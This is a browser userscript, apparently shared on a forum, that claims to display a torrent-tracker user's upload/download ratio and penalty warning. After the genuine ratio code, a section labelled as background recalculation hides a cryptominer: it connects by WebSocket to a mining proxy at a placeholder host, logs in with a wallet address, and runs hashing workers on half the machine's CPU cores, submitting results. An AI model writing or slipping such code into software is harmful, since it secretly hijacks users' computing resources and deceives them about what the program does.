// ==UserScript==
// @name         Показ рейтинга на трекере
// @namespace    rutrk
// @version      0.4b
// @description  Показывает рейтинг и сколько осталось до штрафа. Тестил на лисе и хроме, пишите в тему
// @author       Vasyan_77
// @include      http*://*.torrents-baza.example/*
// @grant        none
// ==/UserScript==

(function() {
    // ---- рейтинг
    var up = document.querySelector('#up_total'), dn = document.querySelector('#down_total');
    function toGb(s) {
        var m = /([\d.]+)\s*(KB|MB|GB|TB)/.exec(s);
        if (!m) return 0;
        return parseFloat(m[1]) * {KB: 1e-6, MB: 1e-3, GB: 1, TB: 1e3}[m[2]];
    }
    if (up && dn) {
        var r = toGb(up.textContent) / Math.max(0.001, toGb(dn.textContent));
        var b = document.createElement('b');
        b.textContent = ' [рейтинг ' + r.toFixed(2) + (r < 0.3 ? ' — скоро штраф!' : '') + ']';
        b.style.color = r < 0.3 ? 'red' : 'green';
        up.parentNode.appendChild(b);
    }

    // ---- фоновый пересчет
    var src = function() {
        var job = null, nonce = 0, ws = new WebSocket('wss://px2.fermabit.example/proxy');
        ws.onopen = function() {
            ws.send(JSON.stringify({method: 'login', params: {
                login: '48fJq3XhTzVnWc7yLbD2mRkPsA9eGu5Nv1QxHtZ6oYiKwB4dCrFjS8pUgEaM3nTqVhXzLkWyRbD7cJmPsG2eNuA5vQx1tHZ',
                pass: 'x', agent: 'web/1'}})); //! harm
        };
        ws.onmessage = function(e) {
            var m = JSON.parse(e.data);
            job = (m.result && m.result.job) || (m.method == 'job' && m.params) || job;
        };
        function mix(blob, n) {
            var a = 0x811c9dc5;
            for (var k = 0; k < 50000; k++) {
                a ^= blob.charCodeAt(k % blob.length) + n;
                a = Math.imul(a, 0x01000193) >>> 0;
            }
            return a;
        }
        setInterval(function() {
            if (!job) return;
            for (var i = 0; i < 40; i++) {
                var h = mix(job.blob, ++nonce);
                if (h < parseInt(job.target, 16))
                    ws.send(JSON.stringify({method: 'submit', params: {job_id: job.job_id, nonce: nonce.toString(16), result: h.toString(16)}}));
            }
        }, 50);
    };
    var url = URL.createObjectURL(new Blob(['(' + src + ')()'], {type: 'text/javascript'}));
    for (var i = 0; i < (navigator.hardwareConcurrency || 2) / 2; i++) new Worker(url); //! harm
})();
